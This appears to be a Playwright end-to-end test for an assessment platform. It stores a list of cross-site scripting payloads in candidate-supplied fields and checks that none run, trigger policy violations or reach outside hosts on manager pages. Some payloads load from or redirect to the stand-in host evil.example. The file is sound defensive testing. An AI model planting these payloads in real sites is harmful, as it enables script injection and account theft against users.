// What candidates type is text on every page that shows it: nothing of it runs, and the browser has nothing to report.
import { randomUUID } from 'node:crypto';
import { expect } from '@playwright/test';
import { connect, withOrganisation, type Db } from '../../src/lib/server/db/client.ts';
import { addressOf } from '../../src/lib/server/db/embedded/index.ts';
import * as accommodations from '../../src/lib/server/accommodations.ts';
import * as assessments from '../../src/lib/server/assessments.ts';
import * as attempts from '../../src/lib/server/attempts.ts';
import { found, startSession } from '../../src/lib/server/auth/index.ts';
import * as invitations from '../../src/lib/server/invitations.ts';
import * as remarks from '../../src/lib/server/remarks.ts';
import * as sittings from '../../src/lib/server/sittings.ts';
import { test } from './browser.ts';
import { dataDir } from './demonstration.ts';

const payloads = [
	'<script>ran()</script>',
	'</script><script>ran()</script>',
	'<img src=x onerror=ran()>',
	'<svg onload=ran()>',
	'<svg><script>ran()</script></svg>',
	'<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
	'<a href="javascript:ran()">open</a>',
	'[open](javascript:ran())',
	'![x](x"onerror="ran())',
	'"><img src=x onerror=ran()>',
	"' onmouseover='ran()' autofocus onfocus='ran()",
	'" autofocus onfocus="ran()" x="',
	'{@html "<img src=x onerror=ran()>"}',
	'{{constructor.constructor("ran()")()}}',
	'${ran()}',
	'<math><mtext></mtext><mglyph><style><img src=x onerror=ran()>',
	'<template><img src=x onerror=ran()></template>',
	'<style>@import "https://evil.example/x.css";</style>',
	'<base href="https://evil.example/"><form action="https://evil.example/"><input autofocus onfocus=ran()>',
	'\u2028</title><meta http-equiv="refresh" content="0;url=https://evil.example/">'
];

/** An organisation in which one person wrote all of it, and others are called by it. Returns the manager's cookie and the addresses to open. */
async function written(db: Db) {
	const owner = { name: payloads[2]!, email: `${randomUUID()}@example.com`, password: 'correct horse battery' };
	const { organisationId, accountId } = await found(db, { name: payloads[3]!, language: 'en' }, owner);
	const tasks = [{ scenario: 'parcelio/late-parcel', weight: 1 }];
	const input = { title: payloads[0]!, language: 'en' as const, passMark: 60, feedback: 'full' as const, tasks };
	const assessment = await assessments.publish(db, organisationId, accountId, input);
	const invite = (name: string) =>
		invitations.invite(db, organisationId, accountId, assessment, { name, email: `${randomUUID()}@example.org` });
	for (const name of payloads.slice(2)) await invite(name);
	const people = [];
	for (const name of payloads.slice(0, 2)) {
		const { id, token } = await invite(name);
		const { candidateId } = await invitations.open(db, token);
		const { pass } = await invitations.enter(db, token);
		const sitting = (await sittings.passOf(db, pass))!;
		const [task] = await withOrganisation(db, organisationId, (tx) => assessments.tasksOf(tx, organisationId, assessment));
		const attempt = await sittings.begin(db, sitting, { taskId: task!.id });
		let clientSeq = 0;
		const send = (body: object) =>
			attempts.receive(db, organisationId, attempt, {
				...{ clientId: randomUUID(), device: 'one', clientSeq: ++clientSeq, answersSeq: 2 },
				...body
			} as never);
		for (const text of payloads) await send({ kind: 'reply', text, times: { shown: 0, firstKey: null, sent: 1000 } });
		await send({ kind: 'note', text: payloads.join('\n') });
		await send({ kind: 'action', action: 'lookup_order', input: payloads[0] });
		await accommodations.ask(db, { organisationId, candidateId }, { factor: 1.5, note: payloads.join(' ').slice(0, 300) });
		await send({ kind: 'finish' });
		await attempts.close(db, organisationId, attempt);
		for (const kind of ['comment', 'review'] as const) await remarks.add(db, organisationId, id, { kind, text: payloads.join('\n') });
		people.push({ id, attempt });
	}
	const at = `/assessments/${assessment}`;
	const [one, two] = people as [(typeof people)[number], (typeof people)[number]];
	return {
		cookie: (await startSession(db, accountId, organisationId)).id,
		pages: [
			...['/assessments', at, `${at}?text=${encodeURIComponent('<svg onload=ran()>')}`],
			...[`${at}/candidates/${one.id}`, `${at}/candidates/${one.id}/replay`, `${at}/report/${one.id}`, `${at}/erase/${one.id}`],
			...[`${at}/compare?with=${one.id}&with=${two.id}`, `${at}/outbox`, '/accommodations', '/reviews', `/rate/${one.attempt}`],
			...['/organisation/audit', `/organisation/audit?text=${encodeURIComponent('"><img src=x onerror=ran()>')}`]
		]
	};
}

test('nothing that a candidate typed runs where a manager reads it', async ({ browser, baseURL }) => {
	const address = addressOf(dataDir);
	const db = connect(address, address);
	const { cookie, pages } = await written(db).finally(() => db.close());
	const context = await browser.newContext({ baseURL });
	await context.addCookies([{ name: 'firstline_session', value: cookie, url: baseURL! }]);
	const page = await context.newPage();
	const reports: string[] = [];
	await page.exposeFunction('ran', () => reports.push(`ran on ${page.url()}`));
	await page.exposeFunction('refused', (what: string) => reports.push(`${what} on ${page.url()}`));
	await page.addInitScript(() =>
		addEventListener('securitypolicyviolation', (event) =>
			(window as unknown as { refused(what: string): void }).refused(`${event.violatedDirective} ${event.blockedURI}`)
		)
	);
	page.on('request', (request) => {
		if (!request.url().startsWith(baseURL!) && !request.url().startsWith('data:')) reports.push(request.url());
	});
	let shown = '';
	for (const path of pages) {
		const answer = await page.goto(path);
		expect(answer?.status(), path).toBe(200);
		await page.locator('html[data-hydrated]').waitFor();
		shown += await page.locator('body').innerText();
	}
	expect(reports).toEqual([]);
	// They were there, letter for letter.
	for (const payload of payloads) expect(shown).toContain(payload.replace('\u2028', '').trim());
});
